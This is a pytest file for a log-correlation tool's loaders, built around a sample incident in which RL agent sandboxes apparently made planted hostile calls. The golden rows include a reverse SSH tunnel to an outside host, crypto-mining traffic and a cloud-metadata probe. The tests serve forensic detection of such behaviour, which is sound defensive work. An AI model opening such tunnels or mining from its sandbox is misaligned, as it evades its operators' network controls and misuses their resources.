"""Loaders: golden rows from the sample scenario, exact reject accounting on malformed fixtures,
compressed inputs, and format sniffing for every loader in the registry."""

from __future__ import annotations

import bz2
import gzip
import json
import re
from collections import Counter
from functools import cache
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pyarrow as pa
import pytest

from correlate.errors import FormatMismatch, InputError, StrictRejection, UnknownFormat
from correlate.loaders import MIN_SCORE, REGISTRY, LoadOptions, LoadResult, detect
from correlate.sources import Source
from correlate.timeparse import parse_iso

TESTS = Path(__file__).resolve().parent
DATA = TESTS / "data"
SAMPLE = TESTS.parent / "sample_logs" / "rome_incident"

INTERNET = SAMPLE / "firewall" / "cfw_internet_log.jsonl"
VPC = SAMPLE / "firewall" / "cfw_vpc_log.csv"
TRACES = SAMPLE / "traces" / "traces.jsonl"
INVENTORY = SAMPLE / "inventory.csv"
EXPECTED = json.loads((SAMPLE / "expected.json").read_text())

CFW_MALFORMED = DATA / "cfw_malformed.jsonl"
CFW_RAGGED = DATA / "cfw_ragged.csv"
OTLP_MALFORMED = DATA / "otlp_malformed.jsonl"
INVENTORY_BAD = DATA / "inventory_bad.csv"
OTLP_EXAMPLE = DATA / "otlp_official_example.jsonl"
OTLP_EXAMPLE_PRETTY = DATA / "otlp_official_example_pretty.json"

SAMPLE_FILES = [INTERNET, VPC, TRACES, INVENTORY]
FIXTURES = [CFW_MALFORMED, CFW_RAGGED, OTLP_MALFORMED, INVENTORY_BAD, OTLP_EXAMPLE]
ALL_FILES = SAMPLE_FILES + FIXTURES

# Files of each format, for sniffing. A new loader in REGISTRY must add its samples here.
SNIFF_SAMPLES: dict[str, list[Path]] = {
    "alibaba_cfw": [INTERNET, VPC, CFW_MALFORMED, CFW_RAGGED],
    "otlp_json": [TRACES, OTLP_MALFORMED, OTLP_EXAMPLE],
    "inventory": [INVENTORY, INVENTORY_BAD],
}
# Every file under tests/data/<loader name>/ is a sample of that loader (README, LICENSES and
# golden *.expected.* files excepted), so a new loader only adds its folder.
for _name in sorted(REGISTRY):
    _folder = DATA / _name
    if _folder.is_dir():
        SNIFF_SAMPLES.setdefault(_name, []).extend(
            p
            for p in sorted(_folder.rglob("*"))
            if p.is_file()
            and p.name != "README.md"
            and "LICENSES" not in p.parts
            and ".expected." not in p.name
        )

NOT_A_LOG = [
    SAMPLE / "README.md",
    SAMPLE / "expected.json",
    SAMPLE / "generate.py",
    DATA / "README.md",
]

EIP = "47.96.180.21"
SSH_RULE = "be5d3342-d5a3-4f9c-b4f7-a893efcd9674"
VPC_RULE = "e49ef7ef-9ed4-4f82-abe3-4dc9c480287f"


def ns(text: str) -> int:
    return parse_iso(text)[0]


def display(path: Path) -> str:
    """The name a file is shown under: relative to the repository, else the bare file name."""
    try:
        return str(path.relative_to(TESTS.parent))
    except ValueError:
        return path.name


def load(path: Path, options: LoadOptions | None = None, shown: str | None = None) -> LoadResult:
    source = Source(path, shown or display(path))
    return detect(source).loader.read(source, options or LoadOptions())


@cache
def loaded(path: Path) -> LoadResult:
    """Load once per session with default options (results are only read, never changed)."""
    return load(path)


def rows(table: pa.Table) -> list[dict[str, Any]]:
    """Table rows as dicts, with timestamps as integer nanoseconds (no pandas rounding)."""
    for i, field in enumerate(table.schema):
        if pa.types.is_timestamp(field.type):
            table = table.set_column(i, field.name, table.column(i).cast(pa.int64()))
    return table.to_pylist()


def by_line(table: pa.Table) -> dict[int, dict[str, Any]]:
    return {row["source_line"]: row for row in rows(table)}


def by_call(table: pa.Table) -> dict[str, dict[str, Any]]:
    return {row["call_id"]: row for row in rows(table)}


def reject_map(result: LoadResult) -> dict[int, str]:
    return {r.location.line: r.reason for r in result.rejects}


def assert_rejects(result: LoadResult, expected: dict[int, str]) -> None:
    """Exactly these lines are rejected, each with a reason containing the given text."""
    got = reject_map(result)
    assert sorted(got) == sorted(expected), got
    for line, fragment in expected.items():
        assert fragment in got[line], (line, got[line])
    assert len(result.rejects) == len(got)  # one reject per line


# --- golden rows from the sample scenario ---------------------------------------------------------


def test_cfw_internet_first_tunnel_drop_row_is_exact():
    result = loaded(INTERNET)
    denied = [row for row in rows(result.table) if row["action"] == "denied"]
    assert denied[0] == {
        "event_id": None,
        "ts": ns("2025-12-02T06:11:19Z"),
        "ts_end": ns("2025-12-02T06:11:19Z"),
        "src_ip": "192.168.10.13",  # src_private_ip: the sandbox itself
        "src_port": 40951,
        "src_nat_ip": EIP,  # src_ip: the shared NAT EIP
        "dst_ip": "203.0.113.7",
        "dst_port": 22,
        "protocol": "tcp",
        "direction": "outbound",
        "action": "denied",
        "action_raw": "drop",
        "rule": SSH_RULE,
        "signature": None,
        "category": None,
        "dst_domain": None,
        "app": "SSH",
        "bytes_out": 60,
        "bytes_in": 0,
        "packets_out": 1,
        "packets_in": 0,
        "observer": "alibaba-cfw/internet_log",
        "host_hint": None,
        "flow_key": None,
        "ts_note": None,
        "source_format": "alibaba_cfw",
        "source_path": "sample_logs/rome_incident/firewall/cfw_internet_log.jsonl",
        "source_line": 149,
    }


def test_cfw_internet_mining_alert_row_keeps_ips_fields_and_drops_the_no_acl_rule():
    row = by_line(loaded(INTERNET).table)[251]
    assert row["ts"] == ns("2025-12-02T06:19:44Z")
    assert (row["src_ip"], row["src_nat_ip"]) == ("192.168.10.17", EIP)
    assert (row["dst_ip"], row["dst_port"]) == ("141.94.96.144", 3333)
    assert (row["action"], row["action_raw"]) == ("alerted", "alert")
    assert row["rule"] is None  # 00000000-... means no ACL rule was hit
    assert row["signature"] == "Mining behavior on the host"
    assert row["category"] == "Mining Behavior"
    assert row["dst_domain"] == "pool.supportxmr.com"
    assert (row["bytes_out"], row["bytes_in"]) == (328, 721)  # out = sent by the sandbox


def test_cfw_internet_inbound_records_use_the_remote_source_and_no_nat_address():
    inbound = [row for row in rows(loaded(INTERNET).table) if row["direction"] == "inbound"]
    assert len(inbound) == 6
    for row in inbound:
        assert row["src_ip"] == "192.0.2.44"
        assert row["src_nat_ip"] is None
        assert (row["dst_ip"], row["dst_port"]) == (EIP, 443)
        assert row["action"] == "allowed"


def test_cfw_internet_action_counts_match_the_scenario():
    actions = Counter(row["action"] for row in rows(loaded(INTERNET).table))
    assert actions == {"allowed": 716, "alerted": 40, "denied": 5}


def test_cfw_vpc_probe_row_is_exact():
    row = by_line(loaded(VPC).table)[50]
    assert row == {
        "event_id": None,
        "ts": ns("2025-12-02T06:37:01Z"),
        "ts_end": ns("2025-12-02T06:37:01Z"),
        "src_ip": "192.168.10.22",  # the VPC log's src_ip is already the private address
        "src_port": 40284,
        "src_nat_ip": None,
        "dst_ip": "100.100.100.200",
        "dst_port": 80,
        "protocol": "tcp",
        "direction": "outbound",
        "action": "denied",
        "action_raw": "drop",
        "rule": VPC_RULE,
        "signature": None,
        "category": None,
        "dst_domain": None,
        "app": "HTTP",
        "bytes_out": 60,
        "bytes_in": 0,
        "packets_out": 1,
        "packets_in": 0,
        "observer": "alibaba-cfw/vpc_firewall_log",
        "host_hint": None,
        "flow_key": None,
        "ts_note": None,
        "source_format": "alibaba_cfw",
        "source_path": "sample_logs/rome_incident/firewall/cfw_vpc_log.csv",
        "source_line": 50,
    }


@pytest.mark.parametrize(
    "violation", EXPECTED["violations"], ids=lambda v: f"{v['dst_ip']}:{v['dst_port']}"
)
def test_cfw_violation_conversations_match_expected_json(violation):
    path = INTERNET if violation["log_type"] == "internet_log" else VPC
    matching = [
        row
        for row in rows(loaded(path).table)
        if (row["src_ip"], row["dst_ip"], row["dst_port"], row["protocol"])
        == (violation["src_ip"], violation["dst_ip"], violation["dst_port"], violation["protocol"])
    ]
    assert len(matching) == violation["event_count"]
    assert {row["action_raw"] for row in matching} == {violation["rule_result"]}
    assert min(row["ts"] for row in matching) == ns(violation["first_ts_firewall"])


def test_otlp_tunnel_call_row_is_exact():
    row = by_call(loaded(TRACES).table)["call_nV0FRhCxFRSXdZ940hunrHPz"]
    command = "ssh -fNR 2222:localhost:22 -o StrictHostKeyChecking=no tunnel@203.0.113.7"
    assert row == {
        "call_id": "call_nV0FRhCxFRSXdZ940hunrHPz",
        "run_id": "rome-rl-0423",
        "episode_id": "ep-0423-sbx-03-1",
        "step": 27,
        "ts_start": 1_764_655_883_100_000_000,  # 2025-12-02T06:11:23.100Z
        "ts_end": 1_764_655_895_700_000_000,  # 2025-12-02T06:11:35.700Z
        "ts_kind": "exact",
        "tool": "run_shell_command",
        "command": command,
        "arguments": json.dumps({"command": command}),
        "output": "ssh: connect to host 203.0.113.7 port 22: Connection timed out",
        "exit_code": 255,
        "is_error": True,
        "host": "sbx-03",
        "host_ip": "192.168.10.13",
        "model": "rome-30b-a3b",
        "train_step": 230,
        "ts_note": None,
        "source_format": "otlp_json",
        "source_path": "sample_logs/rome_incident/traces/traces.jsonl",
        "source_line": 333,
    }


@pytest.mark.parametrize("label", sorted(EXPECTED["planted_calls"]))
def test_otlp_planted_calls_match_expected_json(label):
    planted = EXPECTED["planted_calls"][label]
    row = by_call(loaded(TRACES).table)[planted["call_id"]]
    assert row["host"] == planted["host"]
    assert row["host_ip"] == planted["host_ip"]
    assert row["episode_id"] == planted["episode_id"]
    assert row["step"] == planted["step"]
    assert row["command"] == planted["command"]
    assert row["exit_code"] == planted["exit_code"]
    assert row["is_error"] is (planted["exit_code"] != 0)
    assert row["ts_start"] == ns(planted["start_true"])
    assert row["ts_end"] == ns(planted["end_true"])


def test_otlp_sample_counts_match_expected_json():
    result = loaded(TRACES)
    counts = EXPECTED["counts"]
    assert result.stats.unit == "spans"
    assert result.stats.read == counts["spans"]
    assert result.stats.loaded == result.table.num_rows == counts["tool_calls"]
    assert result.stats.skipped == {
        "span is not a tool call (chat)": counts["chat_spans"],
        "span is not a tool call (invoke_agent)": counts["episodes"],
    }
    assert len(set(result.table.column("episode_id").to_pylist())) == counts["episodes"]
    assert result.rejects == []


def test_otlp_hosts_table_lists_each_sandbox_ip_from_its_first_tool_call():
    result = loaded(TRACES)
    hosts = rows(result.hosts)
    assert {(h["host"], h["ip"]) for h in hosts} == {
        (f"sbx-{i:02d}", f"192.168.10.{10 + i}") for i in range(16)
    }
    calls = rows(result.table)
    for h in hosts:
        first = min(
            (c for c in calls if c["host"] == h["host"]),
            key=lambda c: (c["ts_start"], c["source_line"]),
        )
        assert h["valid_from"] == first["ts_start"]
        assert h["source_line"] == first["source_line"]
        assert h["valid_to"] is None
        assert h["origin"] == "trajectory"
        assert h["source_format"] == "otlp_json"
    assert [h["valid_from"] for h in hosts] == sorted(h["valid_from"] for h in hosts)


def test_inventory_rows_include_the_time_versioned_old_lease():
    table = by_line(loaded(INVENTORY).table)
    assert len(table) == EXPECTED["counts"]["inventory_rows"] == 17
    assert sorted(table) == list(range(2, 19))
    assert table[9] == {
        "host": "sbx-old-7",
        "ip": "192.168.10.17",
        "valid_from": ns("2025-12-01T00:00:00Z"),
        "valid_to": ns("2025-12-02T05:50:00Z"),
        "kind": None,
        "origin": "inventory",
        "note": "decommissioned; IP re-leased to sbx-07",
        "source_format": "inventory",
        "source_path": "sample_logs/rome_incident/inventory.csv",
        "source_line": 9,
    }
    assert table[10] == {
        "host": "sbx-07",
        "ip": "192.168.10.17",
        "valid_from": ns("2025-12-02T05:55:00Z"),
        "valid_to": None,
        "kind": None,
        "origin": "inventory",
        "note": "ROCK sandbox, run rome-rl-0423",
        "source_format": "inventory",
        "source_path": "sample_logs/rome_incident/inventory.csv",
        "source_line": 10,
    }
    sandboxes = {r["host"]: r["ip"] for r in table.values() if r["host"] != "sbx-old-7"}
    assert sandboxes == {f"sbx-{i:02d}": f"192.168.10.{10 + i}" for i in range(16)}


@pytest.mark.parametrize(
    ("path", "kind", "rows_loaded"),
    [
        (INTERNET, "network", EXPECTED["counts"]["internet_log_records"]),
        (VPC, "network", EXPECTED["counts"]["vpc_log_records"]),
        (INVENTORY, "hosts", EXPECTED["counts"]["inventory_rows"]),
    ],
    ids=lambda v: v.name if isinstance(v, Path) else str(v),
)
def test_sample_firewall_and_inventory_files_load_every_row(path, kind, rows_loaded):
    result = loaded(path)
    assert result.kind == kind
    assert result.stats.loaded == result.table.num_rows == rows_loaded
    assert result.rejects == []
    assert result.stats.notes == Counter()


# --- accounting ---------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ALL_FILES, ids=lambda p: p.name)
def test_every_record_read_is_loaded_rejected_or_skipped(path):
    stats = loaded(path).stats
    assert stats.read == stats.loaded + stats.rejected + sum(stats.skipped.values())
    assert stats.balanced
    assert stats.read > 0
    assert stats.loaded == loaded(path).table.num_rows
    assert stats.rejected == len(loaded(path).rejects)


@pytest.mark.parametrize("path", FIXTURES[:4], ids=lambda p: p.name)
def test_rejects_keep_the_raw_line_and_the_path_as_given(path):
    lines = path.read_text().splitlines()
    for reject in loaded(path).rejects:
        assert reject.location.path == display(path)
        assert reject.raw == lines[reject.location.line - 1]
        assert str(reject) == f"{display(path)}:{reject.location.line}: {reject.reason}"


# --- malformed fixtures -------------------------------------------------------------------------


def test_cfw_malformed_rejects_exactly_the_bad_lines():
    result = loaded(CFW_MALFORMED)
    assert_rejects(
        result,
        {
            2: "not valid JSON",
            3: "not a JSON object but a JSON list",
            4: "dst_ip is not an IP address: '39.108.XX.XX'",
            5: "dst_ip is missing",
            6: "dst_port out of range: 70000",
            12: "no start_time and no __time__",
            14: "start_time: not an ISO 8601 time",
        },
    )
    assert sorted(by_line(result.table)) == [1, 8, 9, 10, 11, 13]
    assert result.stats.skipped == {"blank line": 1}
    assert result.stats.read == 14


def test_cfw_record_without_start_time_uses_time_with_a_note():
    row = by_line(loaded(CFW_MALFORMED).table)[8]
    assert row["ts"] == 1_764_655_890_000_000_000
    assert row["ts_end"] is None
    assert row["ts_note"] == "start_time missing: used __time__ (when SLS stored the record)"


def test_cfw_millisecond_start_time_loads_with_the_magnitude_note():
    row = by_line(loaded(CFW_MALFORMED).table)[9]
    assert row["ts"] == 1_764_655_879_500_000_000
    assert row["ts_end"] == 1_764_655_880_250_000_000
    assert row["ts_note"] == "epoch unit ms by magnitude (format documents s)"


def test_cfw_end_before_start_is_dropped_with_a_note():
    row = by_line(loaded(CFW_MALFORMED).table)[13]
    assert row["ts"] == 1_764_655_879_000_000_000
    assert row["ts_end"] is None
    assert row["ts_note"] == "end_time before start_time: end ignored"


def test_cfw_malformed_notes_are_counted_per_file():
    assert loaded(CFW_MALFORMED).stats.notes == {
        "start_time missing: used __time__ (when SLS stored the record)": 1,
        "epoch unit ms by magnitude (format documents s)": 1,
        "end_time before start_time: end ignored": 1,
    }


def test_cfw_alert_and_inbound_fixture_rows():
    table = by_line(loaded(CFW_MALFORMED).table)
    alert = table[10]
    assert (alert["action"], alert["rule"]) == ("alerted", None)
    assert alert["dst_domain"] == "pool.supportxmr.com"  # lower-cased
    assert alert["signature"] == "Mining behavior on the host"
    inbound = table[11]
    assert (inbound["src_ip"], inbound["src_nat_ip"]) == ("192.0.2.44", None)
    assert (inbound["direction"], inbound["action"]) == ("inbound", "allowed")
    drop = table[1]
    assert (drop["src_ip"], drop["src_nat_ip"], drop["rule"]) == ("192.168.10.13", EIP, SSH_RULE)


def test_cfw_epoch_unit_forced_to_seconds_rejects_the_millisecond_row():
    result = load(CFW_MALFORMED, LoadOptions(epoch_unit="s"))
    assert "start_time: time out of range" in reject_map(result)[9]
    assert 9 not in by_line(result.table)
    assert by_line(result.table)[1]["ts"] == 1_764_655_879_000_000_000


def test_cfw_ragged_csv_rejects_wrong_column_counts_with_exact_line_numbers():
    result = loaded(CFW_RAGGED)
    assert_rejects(
        result,
        {
            3: "11 columns where the header has 29",
            5: "30 columns where the header has 29",
            8: "20 columns where the header has 29",  # after a two-line record
            9: "src_ip is not an IP address: '192.168.XX.XX'",
        },
    )
    table = by_line(result.table)
    assert sorted(table) == [2, 6, 10]
    assert table[6]["app"] == "HTTPS\nvia proxy"  # the quoted newline stays in one record
    assert table[2]["dst_ip"] == "100.100.100.200"
    assert result.stats.skipped == {"CSV header": 1, "blank line": 1}
    assert result.stats.read == 9


def test_otlp_malformed_rejects_exactly_the_bad_lines_and_spans():
    result = loaded(OTLP_MALFORMED)
    assert_rejects(
        result,
        {
            2: "not valid JSON",
            3: "not an OTLP trace request (no resourceSpans list)",
            4: "span 0102030405060708: startTimeUnixNano is missing",
            8: "span 5152535455565758: startTimeUnixNano: not an epoch time",
            9: "span 6162636465666768: step is not an integer",
        },
    )
    assert result.stats.skipped == {
        "span is not a tool call (chat)": 1,
        "span is not a tool call (invoke_agent)": 1,
        "blank line": 1,
    }
    assert result.stats.read == 14
    assert result.stats.notes == {
        "epoch unit ms by magnitude (format documents ns)": 1,
        "end before start: end ignored": 1,
    }


def test_otlp_string_status_code_error_marks_the_call_as_an_error():
    row = by_call(loaded(OTLP_MALFORMED).table)["call_statusStringError000001"]
    assert row["is_error"] is True
    assert row["exit_code"] is None
    assert (row["episode_id"], row["step"], row["train_step"]) == ("ep-fixture-1", 27, 230)


def test_otlp_tool_span_without_call_id_falls_back_to_the_lower_case_span_id():
    calls = by_call(loaded(OTLP_MALFORMED).table)
    row = calls["eee19b7ec3c1b174"]
    assert row["command"] == "curl -s http://192.0.2.80/simple/"
    assert row["is_error"] is False


def test_otlp_episode_comes_from_the_invoke_agent_root_written_on_a_later_line():
    row = by_call(loaded(OTLP_MALFORMED).table)["eee19b7ec3c1b174"]
    assert row["source_line"] == 1
    assert row["episode_id"] == "ep-fixture-2"  # only the root span on line 6 carries it


def test_otlp_episode_falls_back_to_the_trace_id_without_any_conversation_id():
    row = by_call(loaded(OTLP_MALFORMED).table)["call_noConversationAnywhere01"]
    assert row["episode_id"] == "0af7651916cd43dd8448eb211c80319c"
    assert (row["exit_code"], row["is_error"]) == (1, True)  # no status: from the exit code


def test_otlp_tool_span_recognised_by_its_name_alone():
    row = by_call(loaded(OTLP_MALFORMED).table)["call_nameOnlyToolSpan0000001"]
    assert row["tool"] == "read_file"
    assert row["command"] is None
    assert row["arguments"] == '{"absolute_path": "/workspace/solve.py"}'
    assert row["episode_id"] == "ep-fixture-1"
    assert row["is_error"] is None


def test_otlp_millisecond_times_and_reversed_end_get_notes():
    calls = by_call(loaded(OTLP_MALFORMED).table)
    ms = calls["call_millisecondStart0000001"]
    assert (ms["ts_start"], ms["ts_end"]) == (1_764_655_940_500_000_000, 1_764_655_941_000_000_000)
    assert ms["ts_note"] == "epoch unit ms by magnitude (format documents ns)"
    reversed_end = calls["call_endBeforeStart00000001"]
    assert (reversed_end["ts_start"], reversed_end["ts_end"]) == (1_764_655_950_000_000_000, None)
    assert reversed_end["ts_note"] == "end before start: end ignored"


def test_otlp_malformed_hosts_table_starts_at_the_first_loaded_call():
    assert rows(loaded(OTLP_MALFORMED).hosts) == [
        {
            "host": "sbx-03",
            "ip": "192.168.10.13",
            "valid_from": 1_764_655_883_100_000_000,
            "valid_to": None,
            "kind": None,
            "origin": "trajectory",
            "note": "first seen in a tool call's resource host.ip",
            "source_format": "otlp_json",
            "source_path": "tests/data/otlp_malformed.jsonl",
            "source_line": 1,
        }
    ]


def test_otlp_official_example_on_one_line_reads_its_span_as_not_a_tool_call():
    result = loaded(OTLP_EXAMPLE)
    assert result.table.num_rows == 0
    assert result.rejects == []
    assert result.stats.skipped == {"span is not a tool call (no gen_ai.operation.name)": 1}
    assert result.hosts.num_rows == 0


def test_otlp_official_pretty_printed_example_reads_its_span():
    result = load(OTLP_EXAMPLE_PRETTY)
    assert result.rejects == []
    assert result.stats.skipped == {"span is not a tool call (no gen_ai.operation.name)": 1}


def _otlp_line_with_status(status: dict[str, Any]) -> str:
    span = {
        "traceId": "0af7651916cd43dd8448eb211c80319c",
        "spanId": "b7ad6b7169203331",
        "name": "execute_tool run_shell_command",
        "startTimeUnixNano": "1764655920000000000",
        "endTimeUnixNano": "1764655921000000000",
        "attributes": [
            {"key": "gen_ai.operation.name", "value": {"stringValue": "execute_tool"}},
            {"key": "gen_ai.tool.call.id", "value": {"stringValue": "call_status"}},
            {"key": "process.exit.code", "value": {"intValue": "7"}},
        ],
        "status": status,
    }
    return json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [span]}]}]}) + "\n"


@pytest.mark.parametrize("status", [{}, {"code": 2}, {"code": "STATUS_CODE_ERROR"}], ids=str)
def test_otlp_nonzero_exit_or_error_status_is_an_error(tmp_path, status):
    path = tmp_path / "status.jsonl"
    path.write_text(_otlp_line_with_status(status))
    assert rows(load(path).table)[0]["is_error"] is True


@pytest.mark.parametrize("status", [{"code": 0}, {"code": "STATUS_CODE_UNSET"}], ids=str)
def test_otlp_unset_status_falls_back_to_the_exit_code(tmp_path, status):
    path = tmp_path / "status.jsonl"
    path.write_text(_otlp_line_with_status(status))
    assert rows(load(path).table)[0]["is_error"] is True


def test_inventory_bad_rejects_exactly_the_bad_rows():
    result = loaded(INVENTORY_BAD)
    assert_rejects(
        result,
        {
            3: "ip is missing",
            4: "valid_to is not after valid_from",
            5: "ip is not an IP address: '192.168.10.300'",
            6: "no host/sandbox name",
            8: "valid_from: not an ISO 8601 time",
            9: "valid_to is not after valid_from",  # an empty lease [t, t)
        },
    )
    table = by_line(result.table)
    assert sorted(table) == [2, 7, 10]
    assert table[10]["valid_from"] == ns("2025-12-02T05:55:00Z")  # epoch seconds
    assert table[2]["note"] == "ROCK sandbox, run rome-rl-0423"
    assert result.stats.skipped == {"CSV header": 1}


def test_inventory_naive_time_is_utc_by_default_with_a_note():
    row = by_line(loaded(INVENTORY_BAD).table)[7]
    assert row["valid_from"] == ns("2025-12-02T13:55:00Z")
    assert row["note"] == "no zone: assumed UTC; naive local time"


@pytest.mark.parametrize("key", ["inventory", "*"])
def test_inventory_naive_time_honours_the_zone_option(key):
    result = load(INVENTORY_BAD, LoadOptions(zones={key: ZoneInfo("Asia/Shanghai")}))
    row = by_line(result.table)[7]
    assert row["valid_from"] == ns("2025-12-02T05:55:00Z")
    assert row["note"] == "no zone: assumed Asia/Shanghai; naive local time"


def test_inventory_ignores_a_zone_given_for_another_format():
    result = load(INVENTORY_BAD, LoadOptions(zones={"alibaba_cfw": ZoneInfo("Asia/Shanghai")}))
    assert by_line(result.table)[7]["valid_from"] == ns("2025-12-02T13:55:00Z")


def test_inventory_file_notes_count_only_the_zone_assumption():
    assert loaded(INVENTORY_BAD).stats.notes == {"no zone: assumed UTC": 1}


@pytest.mark.parametrize(
    "document",
    [
        '[{"host": "sbx-03", "ip": "192.168.10.13", "valid_from": "2025-12-02T05:55:00Z"}]',
        '{"hosts": [{"host": "sbx-03", "ip": "192.168.10.13", '
        '"valid_from": "2025-12-02T05:55:00Z"}]}',
        '{"hostname": "sbx-03", "private_ip": "192.168.10.13", "valid_from": 1764654900}\n'
        '{"hostname": "sbx-04", "private_ip": "192.168.10.14", "valid_from": 1764654900}\n',
    ],
    ids=["array", "hosts-object", "json-lines"],
)
def test_inventory_json_spellings_load(tmp_path, document):
    path = tmp_path / "hosts.json"
    path.write_text(document)
    result = load(path)
    assert result.kind == "hosts"
    first = rows(result.table)[0]
    assert (first["host"], first["ip"], first["source_line"]) == ("sbx-03", "192.168.10.13", 1)
    assert first["valid_from"] == ns("2025-12-02T05:55:00Z")
    assert result.stats.balanced


# --- strict mode --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "first_bad_line"),
    [(CFW_MALFORMED, 2), (CFW_RAGGED, 3), (OTLP_MALFORMED, 2), (INVENTORY_BAD, 3)],
    ids=lambda v: v.name if isinstance(v, Path) else str(v),
)
def test_strict_stops_at_the_first_rejected_row(path, first_bad_line):
    with pytest.raises(StrictRejection, match=rf"^{re.escape(display(path))}:{first_bad_line}: "):
        load(path, LoadOptions(strict=True))


@pytest.mark.parametrize("path", [VPC, INVENTORY], ids=lambda p: p.name)
def test_strict_loads_a_clean_file_unchanged(path):
    result = load(path, LoadOptions(strict=True))
    assert result.table.equals(loaded(path).table)


# --- encodings and compression ------------------------------------------------------------------


def _compress(data: bytes, path: Path, compression: str) -> None:
    if compression == "gz":
        path.write_bytes(gzip.compress(data))
    elif compression == "bz2":
        path.write_bytes(bz2.compress(data))
    else:
        with pa.output_stream(str(path), compression="zstd") as out:
            out.write(data)


@pytest.mark.parametrize("compression", ["gz", "bz2", "zst"])
@pytest.mark.parametrize("path", ALL_FILES, ids=lambda p: p.name)
def test_compressed_copy_loads_identically_to_the_plain_file(tmp_path, path, compression):
    copy = tmp_path / f"{path.name}.{compression}"
    _compress(path.read_bytes(), copy, compression)
    assert copy.read_bytes()[:64] != path.read_bytes()[:64]  # really compressed
    plain = loaded(path)
    source = Source(copy, display(path))
    assert source.name == path.name
    detection = detect(source)
    assert detection.name == detect(Source(path, display(path))).name
    result = detection.loader.read(source, LoadOptions())
    assert result.table.equals(plain.table)
    assert result.rejects == plain.rejects
    assert result.stats == plain.stats
    if plain.hosts is None:
        assert result.hosts is None
    else:
        assert result.hosts.equals(plain.hosts)


def test_truncated_gzip_raises_input_error_not_a_crash(tmp_path):
    data = gzip.compress(TRACES.read_bytes())
    copy = tmp_path / "traces.jsonl.gz"
    copy.write_bytes(data[: len(data) // 2])
    source = Source(copy, "traces.jsonl.gz")
    assert detect(source).name == "otlp_json"  # the head is intact
    with pytest.raises(InputError, match=re.escape("traces.jsonl.gz")):
        REGISTRY["otlp_json"].read(source, LoadOptions())


def test_file_that_is_not_really_gzip_raises_input_error(tmp_path):
    fake = tmp_path / "cfw.jsonl.gz"
    fake.write_bytes(CFW_MALFORMED.read_bytes())
    with pytest.raises(InputError, match=re.escape("cfw.jsonl.gz")):
        detect(Source(fake, "cfw.jsonl.gz"))


def test_invalid_utf8_is_replaced_and_noted(tmp_path):
    path = tmp_path / "cfw.jsonl"
    path.write_bytes(
        CFW_MALFORMED.read_bytes().replace(b'"Pool.SupportXMR.com"', b'"pool.\xffxmr.com"')
    )
    result = load(path, shown="cfw.jsonl")
    assert result.stats.notes["invalid UTF-8 replaced by U+FFFD"] == 1
    assert by_line(result.table)[10]["dst_domain"] == "pool.\ufffdxmr.com"


def test_csv_with_utf8_bom_loads_like_without(tmp_path):
    path = tmp_path / "cfw_ragged.csv"
    path.write_bytes(b"\xef\xbb\xbf" + CFW_RAGGED.read_bytes())
    result = load(path, shown=display(CFW_RAGGED))
    assert result.table.equals(loaded(CFW_RAGGED).table)
    assert result.rejects == loaded(CFW_RAGGED).rejects


def test_cfw_json_lines_with_utf8_bom_loads_like_without(tmp_path):
    path = tmp_path / "cfw_malformed.jsonl"
    path.write_bytes(b"\xef\xbb\xbf" + CFW_MALFORMED.read_bytes())
    result = load(path, shown=display(CFW_MALFORMED))
    assert sorted(by_line(result.table)) == [1, 8, 9, 10, 11, 13]


@pytest.mark.parametrize("separator", ["\x0c", "\u2028", "\x85"], ids=repr)
def test_csv_reject_raw_text_is_the_rejected_line_after_a_field_with_a_unicode_line_break(
    tmp_path, separator
):
    header, good = CFW_RAGGED.read_text().splitlines()[:2]
    odd = good.replace(",HTTP,", f',"HTTP{separator}proxy",')
    short = ",".join(good.split(",")[:11])
    path = tmp_path / "odd.csv"
    path.write_text(f"{header}\n{odd}\n{short}\n", newline="")
    result = load(path)
    assert by_line(result.table)[2]["app"] == f"HTTP{separator}proxy"
    [reject] = result.rejects
    assert reject.location.line == 3
    assert reject.raw == short


# --- sniffing and detection ---------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(REGISTRY))
def test_every_registered_loader_has_sniff_samples(name):
    assert SNIFF_SAMPLES.get(name), f"add sample files for loader {name!r} to SNIFF_SAMPLES"
    assert REGISTRY[name].name == name


@pytest.mark.parametrize("name", sorted(REGISTRY))
def test_loader_sniffs_its_own_samples_and_detect_picks_it(name):
    loader = REGISTRY[name]
    for path in SNIFF_SAMPLES[name]:
        source = Source(path, display(path))
        assert loader.sniff(source.head(), source.name) >= MIN_SCORE, path.name
        detection = detect(source)
        assert (detection.name, detection.forced) == (name, False), path.name
        assert detection.score >= MIN_SCORE


@pytest.mark.parametrize("name", sorted(REGISTRY))
def test_loader_does_not_sniff_other_formats_or_non_logs(name):
    loader = REGISTRY[name]
    others = [p for other, paths in SNIFF_SAMPLES.items() if other != name for p in paths]
    for path in others + NOT_A_LOG:
        source = Source(path, display(path))
        assert loader.sniff(source.head(), source.name) < MIN_SCORE, path.name


@pytest.mark.parametrize("path", NOT_A_LOG, ids=lambda p: p.name)
def test_detect_raises_unknown_format_for_files_that_are_not_logs(path):
    with pytest.raises(UnknownFormat, match="not a known log format"):
        detect(Source(path, display(path)))


@pytest.mark.parametrize("content", [b"", b"\n\n   \n"], ids=["empty", "blank"])
def test_detect_raises_unknown_format_for_an_empty_file(tmp_path, content):
    path = tmp_path / "empty.jsonl"
    path.write_bytes(content)
    with pytest.raises(UnknownFormat, match="empty"):
        detect(Source(path, "empty.jsonl"))


@pytest.mark.parametrize(
    ("path", "forced"),
    [
        (path, forced)
        for forced in sorted(REGISTRY)
        for own, paths in SNIFF_SAMPLES.items()
        if own != forced
        for path in paths
    ],
    ids=lambda v: v.name if isinstance(v, Path) else v,
)
def test_forcing_the_wrong_format_raises_format_mismatch(path, forced):
    with pytest.raises(FormatMismatch, match=f"does not look like {forced}"):
        detect(Source(path, display(path)), forced=forced)


def test_forcing_the_right_format_is_recorded_as_forced():
    detection = detect(Source(TRACES, display(TRACES)), forced="otlp_json")
    assert (detection.name, detection.forced) == ("otlp_json", True)


def test_forcing_an_unknown_format_name_lists_the_known_ones():
    with pytest.raises(UnknownFormat, match="known formats: alibaba_cfw"):
        detect(Source(TRACES, display(TRACES)), forced="palo_alto")
